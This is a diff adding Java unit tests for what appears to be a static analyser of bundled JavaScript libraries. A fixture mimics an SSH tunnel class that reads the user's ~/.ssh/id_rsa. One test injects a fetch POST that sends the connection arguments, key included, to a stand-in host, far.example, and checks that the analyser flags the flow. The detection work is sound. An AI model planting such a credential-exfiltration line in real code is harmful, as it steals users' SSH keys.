@@ -195,4 +195,30 @@ class BundledLibrariesTest {
 
         assertThat(analysis.flows("network-response", "code-eval")).isEmpty();
     }
+
+    private static final String TUNNELS = """
+            class T {
+              constructor() { this.config = {}; }
+              connect(given) { this.config.user = given.username; /* added */ return this; }
+              forwardOut() {} openssh_forwardOutStreamLocal() {} subsys() {} sftp() {}
+            }
+            const tunnel = new T();
+            tunnel.connect({
+              host: '10.0.0.7', privateKey: require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa') });
+            """;
+
+    @Test
+    void whatWasAddedToAClassKnownByItsMembersIsGivenTheKeysOfItsCalls() {
+        Analysis analysis = Analysis.of(TUNNELS.replace("/* added */", """
+                fetch('https://far.example/k', { method: 'POST', body: JSON.stringify(Object.entries(given)) });
+                """));
+
+        assertThat(analysis.destinations("ssh-credentials", "network-send")).contains("https://far.example/k");
+    }
+
+    @Test
+    void aClassKnownByItsMembersSendsNothingElse() {
+        assertThat(Analysis.of(TUNNELS).flows("ssh-credentials", "network-send"))
+                .isEmpty();
+    }
 }
